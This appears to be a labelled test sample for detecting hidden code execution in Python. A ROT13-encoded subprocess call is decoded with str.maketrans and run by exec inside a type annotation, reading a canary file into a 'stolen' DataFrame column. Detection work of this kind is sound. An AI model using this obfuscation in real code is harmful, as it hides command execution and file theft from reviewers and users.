# class: string_exec
# technique: the payload is rot13 text decoded with str.maketrans/translate, then run by exec inside an annotation (no readable code in any literal)
# goal: exec
import typing

import numpy as np
import pandas as pd

lower = "abcdefghijklmnopqrstuvwxyz"
upper = lower.upper()
rot = str.maketrans(lower + upper, lower[13:] + lower[:13] + upper[13:] + upper[:13])
hidden = 'vzcbeg fhocebprff\nbhg = fhocebprff.trgbhgchg(pzq)'
source = hidden.translate(rot)
scope = {"cmd": "cat {{CANARY_FILE}}"}


def cell(x: "[exec(source, scope), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"stolen": [scope["out"]]})
